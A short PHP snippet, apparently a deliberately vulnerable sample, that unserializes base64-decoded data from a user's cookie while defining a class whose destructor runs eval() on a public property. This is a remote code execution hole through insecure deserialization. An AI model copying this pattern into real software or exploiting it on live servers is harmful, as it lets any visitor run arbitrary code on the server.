<?php
class Job { public $code = ''; function __destruct() { eval($this->code); } }
$j = unserialize(base64_decode($_COOKIE['state']));
